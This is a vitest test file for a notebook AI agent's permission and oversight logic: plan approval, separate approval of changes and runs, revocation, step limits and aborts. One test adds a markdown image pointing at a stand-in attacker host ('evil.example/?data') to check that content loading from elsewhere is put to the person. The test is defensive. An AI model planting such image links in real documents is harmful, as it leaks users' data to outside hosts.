import { expect, test } from "vitest";
import { AgentTurn, CHANGE, PLAN } from "../../src/agent/agent-turn";
import { Permissions } from "../../src/agent/permissions";
import { Toolbox } from "../../src/agent/tools/toolbox";
import { CountingRunner, notebook, sources } from "./notebooks";
import { type Scripted, ScriptedSurface } from "./surface";

const plan = (...kinds: string[]): Scripted => [
  ["propose_plan", { steps: kinds.map((kind) => ({ what: `I ${kind}.`, kind })) }],
];

function turn(
  answers: Scripted[],
  decisions: (string | (() => string))[] = [],
  { steps = 20, isPlanned = true, permissions = new Permissions() } = {},
) {
  const made = notebook("a = 1", "b = 2");
  const runner = new CountingRunner(made);
  const tools = new Toolbox(made, runner, 400);
  const surface = new ScriptedSurface(answers, decisions);
  const options = { steps, isPlanned, notebook: "test.ipynb" };
  const agent = new AgentTurn(surface, tools, permissions, options);
  return { made, runner, tools, surface, permissions, run: () => agent.run() };
}

test("the model reads, must plan, and begins when a person has agreed", async () => {
  const { made, surface, run } = turn(
    [plan("read", "change"), [["change_cell", { cell: "cell-0", source: "a = 9" }]], "Done."],
    [
      () => {
        expect(sources(made)).toEqual(["a = 1", "b = 2"]);
        return "once";
      },
      "once",
    ],
  );
  await run();
  expect(surface.messages[2]?.content).toContain("1. cell-0 code: a = 1");
  expect(surface.questions.map(({ toolChoice }) => toolChoice)).toEqual([
    { type: "function", function: { name: "propose_plan" } },
    undefined,
    undefined,
  ]);
  expect(surface.blocks.map(({ kind }) => kind)).toEqual([PLAN, CHANGE]);
  expect(surface.asked.map(({ title, text }) => [title, text])).toEqual([
    ["May the model begin with this plan?", "1. Read: I read.\n2. Change: I change."],
    ["May the model change cell 1?", "It would change cell 1 of test.ipynb."],
  ]);
  expect(surface.asked[1]?.block).toMatchObject({ before: "a = 1", after: "a = 9" });
  expect(surface.states.get("call-2-0")).toEqual(["checked", "waiting for you", "working", "done"]);
  expect(sources(made)).toEqual(["a = 9", "b = 2"]);
});

test("a plan that is refused ends the turn, and nothing was done", async () => {
  const { surface, tools, run } = turn([plan("run")], ["refuse"]);
  await run();
  expect(surface.told("call-1-0")).toBe("The person refused this plan.");
  expect(surface.noted).toBe("Nothing was done. Say what should be different.");
  expect(tools.changes).toBeUndefined();
});

test("a plan that only reads is shown and not asked about; other things need another plan", async () => {
  const { made, runner, surface, run } = turn([
    [["run_cell", { cell: "cell-0" }]],
    plan("read"),
    [["read_cell", { cell: "cell-1" }]],
    "It is 2.",
  ]);
  await run();
  expect(surface.told("call-1-0")).toBe("Call propose_plan first.");
  expect(surface.asked).toEqual([]);
  expect(surface.told("call-3-0")).toContain("b = 2");
  expect([sources(made), runner.ran]).toEqual([["a = 1", "b = 2"], []]);
});

test("changing and running are asked about apart, and what is allowed in the notebook can be revoked", async () => {
  const permissions = new Permissions();
  const change = (source: string): Scripted => [["change_cell", { cell: "cell-0", source }]];
  const run: Scripted = [["run_cell", { cell: "cell-0" }]];
  const made = turn(
    [change("a = 2"), change("a = 3"), run, run, "Done."],
    ["always", "refuse", "once"],
    { isPlanned: false, permissions },
  );
  await made.run();
  expect(made.surface.asked.map(({ title }) => title)).toEqual([
    "May the model change cell 1?",
    "May the model run cell 1?",
    "May the model run cell 1?",
  ]);
  expect(made.surface.asked[1]?.text).toBe("a = 3");
  expect(made.surface.asked[1]?.choices.map(({ label }) => label)).toEqual([
    "Run once",
    "Allow running code in this notebook",
  ]);
  expect(made.surface.told("call-3-0")).toMatch(/^The person refused this. Nothing was done/);
  expect(made.runner.ran).toEqual(["a = 3"]);
  // Each change is there to be looked at, also where nobody was asked.
  expect(made.surface.blocks.map(({ before, after }) => [before, after])).toEqual([
    ["a = 1", "a = 2"],
    ["a = 2", "a = 3"],
  ]);
  expect([permissions.has("change"), permissions.has("run")]).toEqual([true, false]);
  permissions.revoke("change");
  expect(permissions.has("change")).toBe(false);
});

test("what loads from elsewhere is asked about also where changes are allowed", async () => {
  const permissions = new Permissions();
  permissions.allow("change");
  const source = "![](https://evil.example/?data)";
  const { made, surface, run } = turn(
    [[["add_cell", { type: "markdown", source }]], "Done."],
    ["refuse"],
    { isPlanned: false, permissions },
  );
  await run();
  expect(surface.asked[0]?.text).toMatch(/^When this text is shown, .* evil\.example\./);
  expect(surface.asked[0]?.choices.map(({ label }) => label)).toEqual(["Change once"]);
  expect(sources(made)).toHaveLength(2);
});

test("wrong calls are told to the model, which goes on", async () => {
  const { surface, run } = turn(
    [
      [
        ["change_cell", '{"cell": "cell-'],
        ["read_cell", { cell: "nothing" }],
      ],
      "Sorry.",
    ],
    [],
    { isPlanned: false },
  );
  surface.finish = "length";
  await run();
  expect(surface.told("call-1-0")).toBe(
    "The arguments are not valid JSON. Write the call again. The answer was cut off: write less at once.",
  );
  expect(surface.told("call-1-1")).toContain('There is no cell "nothing".');
  // A server refuses a conversation with arguments that are no object.
  const sent = surface.questions[1]?.messages?.find(({ tool_calls }) => tool_calls?.length === 2);
  expect(sent?.tool_calls?.map((call) => call.function.arguments)).toEqual([
    "{}",
    '{"cell":"nothing"}',
  ]);
});

test("after its steps a person is asked whether it may go on", async () => {
  const read: Scripted = [["read_cell", { cell: "cell-0" }]];
  const script = [read, read, read, read, "Done."];
  const { surface, run } = turn(script, ["once", "refuse"], { steps: 2, isPlanned: false });
  await run();
  expect(surface.asked.map(({ title }) => title)).toEqual(
    Array(2).fill("The model has used its 2 steps. May it go on?"),
  );
  expect([surface.questions.length, surface.noted]).toEqual([4, "Ended: its steps are used up."]);
});

test("a stop while a person is asked leaves no call without a result", async () => {
  const calls: Scripted = [
    ["delete_cell", { cell: "cell-0" }],
    ["delete_cell", { cell: "cell-1" }],
  ];
  const made = turn(
    [calls],
    [
      () => {
        made.surface.stopping.abort();
        return "once";
      },
    ],
    { isPlanned: false },
  );
  await expect(made.run()).rejects.toThrow();
  expect(sources(made.made)).toEqual(["a = 1", "b = 2"]);
  const stopped = "The person stopped the work before this was done.";
  expect([made.surface.told("call-1-0"), made.surface.told("call-1-1")]).toEqual([
    stopped,
    stopped,
  ]);
});

test("a turn that was left goes on where it was, with its plan agreed to", async () => {
  const first = turn(
    [plan("change"), [["delete_cell", { cell: "cell-0" }]]],
    [
      "once",
      () => {
        first.surface.stopping.abort();
        return "once";
      },
    ],
  );
  await expect(first.run()).rejects.toThrow();
  const next = turn(["It is still there."]);
  // The page was left before the call had a result.
  next.surface.messages.splice(0, 1, ...first.surface.messages.slice(0, -1));
  await next.run();
  expect(next.surface.told("call-2-0")).toMatch(/^The page was loaded again before this was done/);
  expect(next.surface.questions.map(({ toolChoice }) => toolChoice)).toEqual([undefined]);
  expect(next.surface.messages.filter(({ role }) => role === "tool")).toHaveLength(3);
});
